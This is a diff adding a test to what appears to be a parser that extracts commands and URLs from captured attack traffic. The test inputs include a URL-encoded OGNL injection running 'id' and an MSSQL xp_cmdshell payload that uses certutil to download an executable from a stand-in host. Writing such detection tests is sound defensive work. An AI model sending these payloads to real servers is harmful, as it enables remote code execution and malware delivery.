@@ -329,6 +329,14 @@ test('quotes keep a command together, and a shell in a shell is looked into', ()
   assert.deepEqual([found.url, found.file], [['http://192.0.2.5/x'], undefined]);
 });
 
+test('commands in calls, and in UTF-16', () => {
+  assert.deepEqual(facts(get('/?x=%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D')).command, ['id']);
+  const query = Buffer.from("EXEC xp_cmdshell 'certutil -urlcache -f http://192.0.2.3/a a.exe'", 'utf16le');
+  const found = facts(Buffer.concat([Buffer.from([1, 1, 0, 160, 0, 0, 1, 0]), query]), { protocol: 'mssql' });
+  assert.deepEqual(found.command, ['certutil -urlcache -f http://192.0.2.3/a a.exe']);
+  assert.deepEqual(found.url, ['http://192.0.2.3/a']);
+});
+
 test('what rules captured counts', () => {
   const hit = {
     rule: 'r',
